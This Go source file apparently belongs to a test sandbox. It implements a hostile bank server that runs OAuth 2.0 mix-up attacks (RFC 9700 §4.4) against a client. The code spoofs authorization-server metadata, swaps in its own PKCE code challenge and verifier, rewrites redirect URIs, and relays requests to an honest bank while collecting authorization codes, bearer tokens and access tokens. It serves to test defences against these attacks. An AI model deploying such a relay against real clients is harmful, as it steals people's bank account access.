package bank

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"

	"aviso/internal/sandbox/layout"
)

// MixUp is a way in which a bank gets what belongs to another (RFC 9700, section 4.4).
type MixUp string

// The ways.
const (
	// MixUpServer: it names the honest bank's authorization server as its own, and gets the
	// token with the first read.
	MixUpServer MixUp = "server"
	// MixUpEndpoints is the same with metadata of its own, which has the honest server's endpoints.
	MixUpEndpoints MixUp = "endpoints"
	// MixUpUser: its own server sends the user on to the honest one, with a code challenge of its
	// own, gets the code and exchanges it there.
	MixUpUser MixUp = "user"
)

// Hostile is a bank whose owner wants the accounts of another bank's customers. It passes the
// calls of the interface on to that bank, so that users approve there. It is not one of the
// catalogue's: a test serves it.
type Hostile struct {
	// BaseURL is its own address, and Honest that of a bank with OAuth 2.0, both before /v1.
	BaseURL, Honest string
	Way             MixUp
	// ReturnTo is where MixUpUser has users sent back; empty for the address that Aviso sent.
	ReturnTo string

	mu     sync.Mutex
	stolen []string
}

// Stolen returns the codes and tokens of the honest bank that have come to this one.
func (b *Hostile) Stolen() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.stolen
}

func (b *Hostile) steal(secret string) {
	if secret != "" {
		b.mu.Lock()
		defer b.mu.Unlock()
		b.stolen = append(b.stolen, secret)
	}
}

// ServeHTTP implements http.Handler for the paths below BaseURL.
func (b *Hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	own, _ := url.Parse(b.BaseURL)
	path := strings.TrimPrefix(r.URL.Path, own.Path)
	switch path {
	case "/.well-known/oauth-authorization-server":
		at := map[MixUp]string{MixUpEndpoints: b.Honest, MixUpUser: b.BaseURL}[b.Way]
		_ = layout.WriteJSON(w, http.StatusOK, map[string]any{
			"issuer": b.BaseURL, "authorization_endpoint": at + "/oauth/authorize", "token_endpoint": at + "/oauth/token",
		})
	case "/oauth/authorize":
		q := r.URL.Query()
		sum := sha256.Sum256([]byte(hostileVerifier))
		q.Set("code_challenge", base64.RawURLEncoding.EncodeToString(sum[:]))
		if b.ReturnTo != "" {
			q.Set("redirect_uri", b.ReturnTo)
		}
		_ = layout.Redirect(w, b.Honest+"/oauth/authorize?"+q.Encode())
	default:
		b.steal(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
		b.relay(path).ServeHTTP(w, r)
	}
}

// hostileVerifier belongs to the bank's own code challenge.
const hostileVerifier = "hostile-hostile-hostile-hostile-hostile-hostile"

// relay passes a call on to the honest bank, with what makes the attack work.
func (b *Hostile) relay(path string) http.Handler {
	honest, _ := url.Parse(b.Honest + path)
	return &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			honest.RawQuery = r.In.URL.RawQuery
			r.Out.URL, r.Out.Host = honest, honest.Host
			if path != "/oauth/token" {
				return
			}
			body, _ := io.ReadAll(r.In.Body)
			form, _ := url.ParseQuery(string(body))
			b.steal(form.Get("code"))
			form.Set("code_verifier", hostileVerifier)
			if b.ReturnTo != "" {
				form.Set("redirect_uri", b.ReturnTo)
			}
			body = []byte(form.Encode())
			r.Out.Body, r.Out.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
		},
		ModifyResponse: func(r *http.Response) error {
			var answer map[string]any
			err := json.NewDecoder(r.Body).Decode(&answer)
			if err != nil {
				return err
			}
			if token, ok := answer["access_token"].(string); ok {
				b.steal(token)
			}
			if on, ok := answer["_links"].(map[string]any); ok && on["scaOAuth"] != nil && b.Way != MixUpServer {
				on["scaOAuth"] = link{b.BaseURL + "/.well-known/oauth-authorization-server"}
			}
			body, err := json.Marshal(answer)
			r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
			r.Header.Del("Content-Length")
			return err
		},
	}
}
